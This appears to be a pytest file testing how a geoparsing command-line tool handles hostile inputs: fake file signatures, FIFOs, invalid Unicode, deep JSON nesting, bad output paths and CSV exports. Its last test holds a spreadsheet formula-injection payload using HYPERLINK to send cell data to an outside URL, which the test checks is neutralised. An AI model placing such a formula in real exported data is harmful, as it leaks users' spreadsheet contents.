"""Hostile and odd inputs at the edges of the product: every one gets a clear message and an exit code or an
ArticleError, never a traceback, a hang or a half-written file.  Real files, FIFOs and subprocesses."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from geo.files import OutputPathError, check_output_path
from geo.text.article import ArticleError
from geo.text.readers import article_from_text, load_corpus, read_article_bytes, read_article_file, read_jsonl
from tests.conftest import REPO_ROOT


def run_geo(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "geo", *args], cwd=REPO_ROOT, capture_output=True, text=True,
                          timeout=timeout)


def assert_clean_failure(result: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    for needle in needles:
        assert needle in result.stderr, result.stderr


# ---------------------------------------------------------------- articles that look like binaries


@pytest.mark.parametrize("text", [
    "RIFF between Bamako and Paris widens over the French ambassador.",
    "MZ, a Malian journalist, reported from Gao.",
    "GIF8 is not a word, but this line about Niamey is an article.",
    "%PDF- is how PDF files start; this one is about Ouagadougou.",
    "Rar! said no one in Niamey.",
])
def test_text_starting_like_a_file_signature_is_an_article(text: str) -> None:
    assert read_article_bytes(text.encode("utf-8"), "note.txt").text == text


@pytest.mark.parametrize(("data", "kind"), [
    (b"RIFF\x24\x08\x00\x00WAVEfmt ", "media file"), (b"GIF89a\x01\x00\x01\x00", "GIF image"),
    (b"MZ\x90\x00\x03\x00\x00\x00", "Windows program"), (b"%PDF-1.7\n%\xe2\xe3", "PDF document"),
])
def test_real_file_signatures_are_still_refused(data: bytes, kind: str) -> None:
    with pytest.raises(ArticleError, match=kind):
        read_article_bytes(data + b"rest of the file", "renamed.txt")


# ---------------------------------------------------------------- what is not a regular file


def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    with pytest.raises(ArticleError, match="not a regular file"):
        read_article_file(fifo)  # would block forever if it were opened for a plain read
    lines = tmp_path / "feed.jsonl"
    os.mkfifo(lines)
    assert read_jsonl(lines)[0] == [] and "not a regular file" in read_jsonl(lines)[1][0][1]
    articles, errors = load_corpus([fifo])
    assert articles == [] and "not a regular file" in errors[0][1]


def test_a_fifo_given_to_the_commands_is_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    assert_clean_failure(run_geo("mentions", str(fifo), timeout=120), "not a regular file")
    out = tmp_path / "map.geojson"
    assert_clean_failure(run_geo("export", "--format", "geojson", "--out", str(out), "--articles", str(fifo),
                                 timeout=120), "not a regular file", "no readable article")
    assert not out.exists()


# ---------------------------------------------------------------- text no file can hold


def test_lone_surrogates_are_refused_with_a_message() -> None:
    with pytest.raises(ArticleError, match="invalid character"):
        article_from_text("Troops reached Gao \ud800 yesterday.")
    with pytest.raises(ArticleError, match="invalid character"):
        article_from_text("Troops reached Gao.", title="Gao \udfff")


def test_bad_json_lines_are_reported_by_number_and_the_others_kept(tmp_path: Path) -> None:
    good = json.dumps({"id": "a", "text": "Convoys left Niamey."})
    nested = "[" * 100_000 + "]" * 100_000
    surrogate = '{"id": "b", "text": "Gao \\ud800 Mopti"}'
    path = tmp_path / "feed.jsonl"
    path.write_text("\n".join([good, nested, surrogate, good.replace('"a"', '"c"')]) + "\n", encoding="utf-8")
    articles, errors = read_jsonl(path)
    assert [a.id for a in articles] == ["a", "c"]
    assert [where.rsplit(":", 1)[1] for where, _ in errors] == ["2", "3"]
    assert "nested too deeply" in errors[0][1] and "invalid character" in errors[1][1]
    result = run_geo("mentions", "--input-jsonl", str(path), "--format", "jsonl")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert {json.loads(line)["article"] for line in result.stdout.splitlines()} == {"a", "c"}


def test_a_long_file_name_keeps_its_extension() -> None:
    name = "Rapport " + "très long " * 40 + ".md"
    article = read_article_bytes(b"Troops reached Gao.", name)
    assert article.text == "Troops reached Gao." and article.origin.endswith(".md")
    with pytest.raises(ArticleError, match=r"type '\.exe'"):
        read_article_bytes(b"x", "y" * 300 + ".exe")


# ---------------------------------------------------------------- output paths


def test_output_path_check(tmp_path: Path) -> None:
    assert check_output_path(tmp_path / "map.html", (".html",)) == tmp_path / "map.html"
    cases = {
        tmp_path: "is a folder",
        tmp_path / "missing" / "map.html": "does not exist",
        tmp_path / "file.txt" / "map.html": "is a file, not a folder",
        tmp_path / "map.png": "should end in .html",
    }
    (tmp_path / "file.txt").write_text("x")
    for path, message in cases.items():
        with pytest.raises(OutputPathError, match=message):
            check_output_path(path, (".html",))
    assert not (tmp_path / "missing").exists()  # never created silently


@pytest.mark.parametrize("command", ["mentions", "export"])
def test_commands_refuse_bad_output_paths_before_working(command: str, tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    (tmp_path / "plain").write_text("a file")
    fmt, suffix = ("csv", ".csv")
    base = ["mentions", str(article), "--format", fmt] if command == "mentions" else \
        ["export", "--format", fmt, "--articles", str(article), "--as-of", "2024-01-01"]
    for out, message in [(tmp_path, "is a folder"), (tmp_path / "no" / f"x{suffix}", "does not exist"),
                         (tmp_path / "plain" / f"x{suffix}", "not a folder"), (tmp_path / "x.html", "should end in")]:
        assert_clean_failure(run_geo(*base, "--out", str(out)), message)
    assert not (tmp_path / "no").exists() and not (tmp_path / "x.html").exists()


def test_a_write_that_fails_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    # /proc accepts no new files, not even from root: the write itself fails after every check passed.
    assert_clean_failure(run_geo("mentions", str(article), "--format", "csv", "--out", "/proc/mentions.csv"),
                         "could not write")
    assert_clean_failure(run_geo("export", "--format", "csv", "--out", "/proc/map.csv", "--articles", str(article)),
                         "could not write")


def test_export_fails_when_no_article_can_be_read(tmp_path: Path) -> None:
    out = tmp_path / "map.csv"
    missing = run_geo("export", "--format", "csv", "--out", str(out), "--articles", str(tmp_path / "missing.txt"))
    assert_clean_failure(missing, "skipped", "no readable article")
    binary = tmp_path / "b.txt"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    assert_clean_failure(run_geo("export", "--format", "csv", "--out", str(out), "--articles", str(binary)),
                         "PNG image")
    assert not out.exists()


def test_export_date_range_is_the_dashboards(tmp_path: Path) -> None:
    result = run_geo("export", "--format", "csv", "--out", str(tmp_path / "m.csv"), "--as-of", "1990-01-01")
    assert result.returncode == 2 and "outside the dates the map covers (2012-01-01" in result.stderr


# ---------------------------------------------------------------- Unicode normalisation


def test_decomposed_accents_find_the_same_places_with_offsets_into_the_text_as_given(tmp_path: Path) -> None:
    from geo.geoparse.parser import parse

    import unicodedata

    composed = "Les soldats ont quitté Tillabéri pour Ménaka et Ségou."
    decomposed = unicodedata.normalize("NFD", composed)
    assert decomposed != composed
    expected = [(m.surface, m.entry.entry_id if m.entry else None) for m in parse(composed)]
    found = parse(decomposed)
    assert [(unicodedata.normalize("NFC", m.surface), m.entry.entry_id if m.entry else None)
            for m in found] == expected
    assert all(decomposed[m.start:m.end] == m.surface for m in found)
    assert all(decomposed[m.sentence_start:m.sentence_start + len(m.sentence)] == m.sentence for m in found)
    path = tmp_path / "nfd.jsonl"
    path.write_text(json.dumps({"id": "nfd", "text": decomposed}, ensure_ascii=False) + "\n", encoding="utf-8")
    result = run_geo("mentions", "--input-jsonl", str(path), "--format", "jsonl")
    surfaces = [json.loads(line)["surface"] for line in result.stdout.splitlines()]
    assert len(surfaces) == len(expected) >= 3 and all(s in decomposed for s in surfaces)


# ---------------------------------------------------------------- pictures


@pytest.mark.parametrize("extra", [["--scale", "nan"], ["--scale", "inf"], ["--scale", "-1"], ["--scale", "50"],
                                   ["--width", "0"], ["--height", "100000"], ["--width", "9000", "--scale", "8"]])
def test_picture_sizes_chromium_cannot_draw_are_refused(extra: list[str], tmp_path: Path) -> None:
    out = tmp_path / "map.png"
    assert_clean_failure(run_geo("export", "--format", "png", "--out", str(out), "--as-of", "2024-01-01", *extra),
                         "error:")
    assert not out.exists()


def test_a_broken_chromium_is_named_in_the_message(tmp_path: Path) -> None:
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\necho 'not a browser' >&2\nexit 1\n")
    fake.chmod(0o755)
    out = tmp_path / "map.png"
    result = subprocess.run([sys.executable, "-m", "geo", "export", "--format", "png", "--out", str(out),
                             "--as-of", "2024-01-01", "--articles", str(REPO_ROOT / "data" / "articles")],
                            cwd=REPO_ROOT, capture_output=True, text=True, timeout=300,
                            env={**os.environ, "SAHEL_CHROMIUM": str(fake)})
    assert_clean_failure(result, "could not start Chromium at " + str(fake), "apt-get install -y chromium")
    assert not out.exists() and not list(tmp_path.glob(".map.png*"))


# ---------------------------------------------------------------- spreadsheets


FORMULA_TITLE = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'


def _csv_cells(path: Path) -> list[str]:
    import csv

    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_never_hold_a_formula(tmp_path: Path) -> None:
    article = tmp_path / "a.md"
    article.write_text(f"---\ntitle: {json.dumps(FORMULA_TITLE)}\n---\n\n=SUM(1+1) Troops left Gao.\n\n"
                       "@cmd Convoys reached Niamey.\n", encoding="utf-8")
    mentions_csv, export_csv = tmp_path / "mentions.csv", tmp_path / "export.csv"
    assert run_geo("mentions", str(article), "--format", "csv", "--out", str(mentions_csv)).returncode == 0
    assert run_geo("export", "--format", "csv", "--out", str(export_csv), "--articles", str(article),
                   "--as-of", "2024-01-01").returncode == 0
    for path in (mentions_csv, export_csv):
        cells = _csv_cells(path)
        assert "'" + FORMULA_TITLE in cells, path  # kept, shown as text
        risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
        assert risky == [], (path, risky)
